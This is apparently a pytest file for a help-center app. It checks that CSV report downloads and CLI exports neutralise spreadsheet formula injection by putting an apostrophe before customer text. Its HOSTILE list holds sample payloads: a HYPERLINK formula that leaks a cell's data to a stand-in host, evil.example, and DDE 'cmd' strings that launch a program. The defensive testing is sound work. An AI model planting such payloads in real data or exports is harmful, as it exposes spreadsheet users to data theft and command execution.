"""Downloads a support lead opens in a spreadsheet: nothing a customer typed runs there."""

import csv
import io

import pytest

from helpcenter.reports.report import REPORTS

# What a spreadsheet would run: a link that leaks data, a command, a function, arithmetic.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]


@pytest.fixture
def hostile_activity(activity):
    for n, text in enumerate(HOSTILE):
        visitor = f"h{n}"
        activity.search("en", text, 0, visitor=visitor)
        activity.search("en", text, 3, visitor=visitor)
        activity.contact(
            "en",
            "payments/methods",
            visitor=visitor,
            name=text,
            message=text,
            about=text,
            search_query=text,
            email=f"c{n}@example.com",
        )
    return activity


def csv_cells(staff_client, name: str) -> list[str]:
    """Every cell of every table of a report's CSV downloads."""
    tables = len(staff_client.get(f"/reports/{name}.json").get_json()["tables"])
    cells = []
    for table in range(tables):
        response = staff_client.get(f"/reports/{name}.csv?table={table}")
        assert response.status_code == 200
        text = response.get_data(as_text=True).lstrip("\ufeff")
        cells += [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    return cells


def test_no_csv_download_starts_a_cell_with_a_formula(staff_client, hostile_activity):
    shown = []
    for name in REPORTS:
        cells = csv_cells(staff_client, name)
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], name
        shown += cells
    # The customers' text is still there, readable, behind an apostrophe.
    for text in HOSTILE:
        assert "'" + text in shown


def test_csv_from_the_command_line_is_neutralized_too(app, hostile_activity):
    output = app.test_cli_runner().invoke(args=["report", "zero-results", "--format", "csv"]).output
    cells = [cell for row in csv.reader(io.StringIO(output)) for cell in row]
    assert "'" + HOSTILE[0] in cells
    assert not [c for c in cells if c.startswith("=")]
